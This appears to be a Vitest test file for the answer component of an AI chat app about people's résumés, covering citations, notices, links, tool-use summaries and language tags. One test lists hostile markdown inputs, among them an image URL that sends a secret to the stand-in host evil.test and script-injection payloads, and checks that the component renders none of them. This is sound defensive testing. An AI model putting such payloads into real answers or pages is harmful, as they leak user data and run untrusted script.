import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { expect, test, vi } from "vitest";
import type { Citation } from "../../shared/api/client";
import { InTheme } from "../../shared/ui/InTheme";
import { Answer } from "./Answer";
import { ConversationStore } from "./conversationStore";
import { representativeOf } from "./partner";
import { card } from "./testing";
import { type AnswerContent, EMPTY_ANSWER } from "./turnReducer";

function citation(text: string, words: string, number = 1): Citation {
  const start = Array.from(text.slice(0, text.indexOf(words))).length;
  const end = start + Array.from(words).length;
  const evidence = { evidence_id: `e${number}`, document_id: "d", document_name: "cv.pdf", path: "/work/0" };
  return {
    number,
    start,
    end,
    ...evidence,
    quote: "The very line",
    section: "Work",
    page: 2,
    document_date: null,
  };
}

const partner = representativeOf(card);

async function show(content: Partial<AnswerContent> & { text: string }, onOpenCitation = vi.fn()) {
  const answer = {
    id: "a",
    turnId: "t",
    content: { ...EMPTY_ANSWER, status: "complete" as const, ...content },
    siblingIds: ["a"],
    feedback: null,
  };
  const store = new ConversationStore(partner);
  const view = render(
    <Answer
      answer={answer}
      words={partner.words}
      question="Why?"
      store={store}
      idle
      connected
      onOpenCitation={onOpenCitation}
    />,
    { wrapper: InTheme },
  );
  await waitFor(() => expect(view.container.querySelector("[class*=markdown]")).not.toBeNull());
  return { ...view, onOpenCitation };
}

const marks = (container: HTMLElement) =>
  [...container.querySelectorAll("mark")].map((mark) => mark.textContent);

test.each([
  ["/coach/memory", null],
  [`${location.origin}/profile`, null],
  ["https://example.org/", "_blank"],
  ["http://localhost.example.org/", "_blank"],
])("a link to %s opens in %s", async (href, target) => {
  await show({ text: `See [there](${href}).` });

  expect(screen.getByRole("link", { name: "there" }).getAttribute("target")).toBe(target);
});

test("the words of a citation are marked, whatever stands before them", async () => {
  const text = "🚀 Ada &amp; Co built an *engine* in \\*1843\\*.";
  const { container } = await show({ text, citations: [citation(text, "an *engine* in \\*1843\\*")] });

  expect(marks(container).join("")).toBe("an engine in *1843*");
});

test.each([
  ["ends in markup", "Ada is **an analyst**.", "**an analyst**"],
  ["is a whole line of a list", "- *Ada*: **wrote**\n- Bob", "*Ada*: **wrote**"],
  ["runs over two paragraphs", "Ada wrote.\n\nAnd Ada ran.", "wrote.\n\nAnd Ada"],
  ["stands in code", "```\nada()\n```", "ada()"],
])("a citation that %s has exactly one numeral", async (_, text, words) => {
  await show({ text, citations: [citation(text, words)] });

  expect(screen.getAllByRole("button", { name: /^Evidence 1/ })).toHaveLength(1);
});

test("two citations of one line have one number", async () => {
  const text = "First words. Second words.";
  const citations = [citation(text, "First words", 7), { ...citation(text, "Second words", 7) }];
  await show({ text, citations });

  expect(screen.getAllByRole("button", { name: /^Evidence 1/ })).toHaveLength(2);
});

test("a numeral leads to its evidence", async () => {
  const text = "Ada wrote it.";
  const cited = citation(text, "Ada wrote it");
  const { onOpenCitation } = await show({ text, citations: [cited] });
  await userEvent.click(screen.getByRole("button", { name: /^Evidence 1/ }));

  expect(onOpenCitation).toHaveBeenCalledWith(cited);
});

test("what the person answered themselves stands among their own words, and in no résumé", async () => {
  const text = "Ada sails.";
  const own = { ...citation(text, "Ada sails"), document_id: null, document_name: "Ada’s own words" };
  await show({ text, citations: [own] });

  screen.getByRole("button", { name: /^Evidence 1.*See it among Ada’s own words\.$/ });
});

test("words without evidence are pointed out", async () => {
  const text = "Ada wrote it in 1844.";
  const notices = [{ code: "unsupported", message: "", spans: [[16, 20]] as [number, number][] }];
  await show({ text, notices });

  expect(screen.getByText("1844").getAttribute("class")).toContain("doubt");
});

test.each([
  ["![x](https://evil.test/p.png?d=SECRET)", "img, link[rel=preload]"],
  ["![x][r]\n\n[r]: https://evil.test/p.png", "img, link[rel=preload]"],
  ["<img src=x onerror=alert(1)><script>alert(1)</script>", "img, script"],
  ["[x](javascript:alert(1))", "a"],
  ["[x](data:text/html,hello)", "a"],
  ["<a href='https://evil.test'>x</a>", "a"],
])("%s brings nothing in", async (text, forbidden) => {
  await show({ text });

  expect(document.querySelector(forbidden)).toBeNull();
});

test("a link says nothing of where it was followed", async () => {
  await show({ text: "[code](https://example.org/x)" });

  expect(screen.getByRole("link").getAttribute("rel")).toBe("noopener noreferrer nofollow");
});

test("an answer that failed can be tried again", async () => {
  const failure = { code: "provider_timeout", message: "The model took too long.", retryable: true };
  await show({ text: "Half an ans", status: "failed", failure });

  expect(screen.getByRole("alert").textContent).toContain("The model took too long.Try again");
});

test.each([
  ["not_in_evidence", "Your question was passed on to Ada."],
  ["unsupported", "Please check them."],
  ["fallback", "another one did"],
  ["truncated", "cut at its length limit"],
  ["constructor", "Words of the server."],
])("the notice %s is told", async (code, words) => {
  await show({ text: "Ada wrote it.", notices: [{ code, message: "Words of the server.", spans: [] }] });

  expect(screen.getByText(words, { exact: false })).toBeTruthy();
});

test("that answers are quotes is not told with each of them", async () => {
  await show({ text: "Ada.", notices: [{ code: "quotes_only", message: "Only quotes.", spans: [] }] });

  expect(screen.queryByText("Only quotes.")).toBeNull();
});

test("an answer that was cut can be given again", async () => {
  const again = vi.spyOn(ConversationStore.prototype, "regenerate").mockResolvedValue();
  await show({ text: "Half an ans", notices: [{ code: "truncated", message: "", spans: [] }] });
  await userEvent.click(screen.getByText("Answer again"));

  expect(again).toHaveBeenCalledWith("a");
});

const use = { callId: "1", name: "github_activity", ok: true, summary: "Looked at GitHub: 12 repositories" };

test("what was looked up on the way is told", async () => {
  await show({ text: "They publish a lot.", tools: [use] });

  expect(screen.getByRole("listitem").textContent).toBe("Looked at GitHub: 12 repositories");
});

test("what did not work on the way is told", async () => {
  const failed = { ...use, ok: false, summary: "GitHub did not answer." };
  await show({ text: "I could not look.", tools: [failed] });

  expect(screen.getByRole("listitem").textContent).toBe(
    "Looking at GitHub did not work: GitHub did not answer.",
  );
});

test.each([
  ["github_activity", "Looking at GitHub"],
  ["storm_warning", "Using storm warning"],
])("while %s runs, that is what is told", async (name, words) => {
  await show({ text: "Let me look.", status: "streaming", tools: [{ ...use, name, ok: null, summary: "" }] });

  expect(screen.getByText(words)).toBeTruthy();
  expect(screen.queryByRole("list")).toBeNull();
});

test("all that is looked up at the same time is named", async () => {
  const running = ["weather", "github_activity"].map((name) => ({ ...use, callId: name, name, ok: null }));
  await show({ text: "Let me look.", status: "streaming", tools: running });
  screen.getByText("Looking up the weather · Looking at GitHub");
});

test("an answer says which language it is written in, and its evidence that of the page", async () => {
  const text = "Ada hat ein Team geleitet.";
  const { container } = await show({
    text,
    language: "de",
    citations: [citation(text, "ein Team geleitet")],
  });
  expect(container.querySelector("mark")?.closest("[lang]")).toHaveProperty("lang", "de");
  expect(screen.getByRole("button", { name: /Evidence 1/ })).toHaveProperty("lang", "en");
});

test("an answer in a language that nobody told is not taken for the page's", async () => {
  const { container } = await show({ text: "Ada prowadziła zespół." });
  expect(container.querySelector("p")?.closest("[lang]")).toHaveProperty("lang", "");
});

const passedOn = [{ code: "not_in_evidence", message: "Die Frage wurde weitergeleitet.", spans: [] }];

test("what a reader should know is told in the language of the answer", async () => {
  await show({ text: "Das steht nicht im Lebenslauf.", language: "de", notices: passedOn });
  expect(screen.getByText("Die Frage wurde weitergeleitet.")).toHaveProperty("lang", "de");
});

test("in an English answer the page's own words tell it", async () => {
  await show({ text: "That is not in the résumé.", language: "en", notices: passedOn });
  expect(screen.queryByText(partner.words.missing)).not.toBeNull();
});
